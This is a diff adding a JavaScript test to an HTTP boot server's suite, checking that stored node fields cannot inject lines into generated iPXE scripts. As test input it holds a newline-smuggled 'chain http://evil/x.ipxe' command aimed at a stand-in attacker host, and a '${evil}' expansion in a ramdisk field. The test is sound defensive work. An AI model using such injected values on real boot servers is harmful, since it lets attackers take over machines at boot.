@@ -82,6 +82,16 @@ describe('HTTP boot server', function () {
     expect(body).to.not.contain('${evil}').and.not.contain('a;b');
   });
 
+  it('never lets a stored kernel reference add a line: the node boots from disk instead (before: a `chain` line)', async () => {
+    const node = await nodeWithMac('52:54:00:00:00:04', 'rescue wait', { rescue_kernel: 'http://images/r.kernel\nchain http://evil/x.ipxe', rescue_ramdisk: 'r.initramfs' });
+    const body = (await text('/boot/52:54:00:00:00:04.ipxe')).body;
+    expect(body.split('\n').filter((line) => line.includes('evil'))).to.deep.equal([]);
+    expect(body).to.contain('sanboot').and.not.match(/^(kernel|chain)/m);
+    expect(body).to.contain(`node ${node.uuid}: driver_info/rescue_kernel is not an http(s) URL`);
+    await nodeWithMac('52:54:00:00:00:05', 'clean wait', { deploy_ramdisk: 'tyr.initramfs ${evil}' });
+    expect((await text('/boot/52:54:00:00:00:05.ipxe')).body).to.not.contain('${evil}').and.not.match(/^initrd/m);
+  });
+
   it('follows the node state: rescue ramdisk from driver_info, then local disk when active', async () => {
     const node = await nodeWithMac('52:54:00:00:00:02', 'rescue wait', { rescue_kernel: 'http://images/r.kernel', rescue_ramdisk: 'r.initramfs' });
     expect((await text('/boot/52-54-00-00-00-02.ipxe')).body).to.contain('kernel http://images/r.kernel').and.contain('tyr-mode=rescue');
